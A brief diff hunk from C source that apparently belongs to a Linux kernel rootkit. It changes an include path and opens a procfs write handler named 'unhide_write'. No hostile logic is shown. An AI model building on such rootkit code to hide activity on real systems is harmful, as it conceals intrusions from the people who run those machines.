@@ -15,7 +15,7 @@
  */
 #include <linux/proc_fs.h>
 
-#include "rkit64.h"
+#include "../rkit.h"
 
 static ssize_t unhide_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
 {
